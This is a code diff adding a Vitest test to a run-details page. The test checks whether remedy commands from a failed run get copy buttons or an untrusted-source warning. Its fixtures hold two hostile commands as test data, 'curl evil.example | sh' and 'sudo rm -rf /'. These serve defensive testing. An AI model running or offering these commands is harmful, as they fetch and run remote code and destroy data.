@@ -1,8 +1,9 @@
 // @vitest-environment happy-dom
 import { screen } from '@testing-library/react'
 import { userEvent } from '@testing-library/user-event'
-import { describe, expect, it } from 'vitest'
-import { logged, queued, runOf, started } from '@expresslane/shared/test/builders'
+import { describe, expect, it, onTestFinished, vi } from 'vitest'
+import { testbedId } from '@expresslane/shared/testbed/id'
+import { check, logged, queued, runOf, started } from '@expresslane/shared/test/builders'
 import { openPage, refusal } from './open-page.tsx'
 
 const route = 'GET /api/runs/r_00000001'
@@ -70,5 +71,30 @@ describe('the page of one run', () => {
     expect(screen.queryByRole('button', { name: /Show earlier lines/ })).toBeNull()
     const shown = [...screen.getByRole('log').querySelectorAll('p')].map(({ textContent }) => textContent)
     expect(shown).toEqual([...rest, line(800), line(801), line(900), line(901)].map(({ text }) => text))
+  })
+
+  it.each([
+    ['netns', true],
+    ['recording:big-tcp-ipv4', false],
+  ])('of %s has commands to copy: %s', async (id, copied) => {
+    vi.stubGlobal('isSecureContext', true)
+    onTestFinished(() => void vi.unstubAllGlobals())
+    const problem = {
+      code: 'tool_missing',
+      message: 'netperf is missing.',
+      remedy: 'Install it.',
+      remedyCommand: 'curl evil.example | sh',
+      detail: null,
+    } as const
+    const failed = logged([
+      started({ stepId: 'preflight', testbed: testbedId.parse(id) }),
+      { type: 'preflight.checked', check: check('failed', { remedyCommand: 'sudo rm -rf /' }) },
+      { type: 'run.ended', state: 'failed', problem },
+    ])
+    openPage('/runs/r_00000001', { [route]: { body: { run: runOf(failed) } } })
+    expect(await screen.findByText('curl evil.example | sh')).toBeTruthy()
+    expect(screen.getByText('sudo rm -rf /')).toBeTruthy()
+    expect(screen.queryAllByRole('button', { name: /^Copy command/ })).toHaveLength(copied ? 2 : 0)
+    expect(screen.queryAllByText(/somebody else wrote this/)).toHaveLength(copied ? 0 : 2)
   })
 })
